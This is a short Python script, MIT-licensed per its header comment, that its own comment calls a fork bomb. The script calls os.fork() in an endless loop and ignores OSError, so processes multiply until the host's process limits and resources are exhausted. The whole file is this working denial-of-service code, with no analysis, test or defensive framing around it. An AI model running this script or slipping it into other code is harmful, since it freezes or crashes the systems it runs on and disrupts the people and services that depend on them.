# SPDX-License-Identifier: MIT
# A fork bomb. Right: hit processes.
import os

while True:
    try:
        os.fork()
    except OSError:
        pass
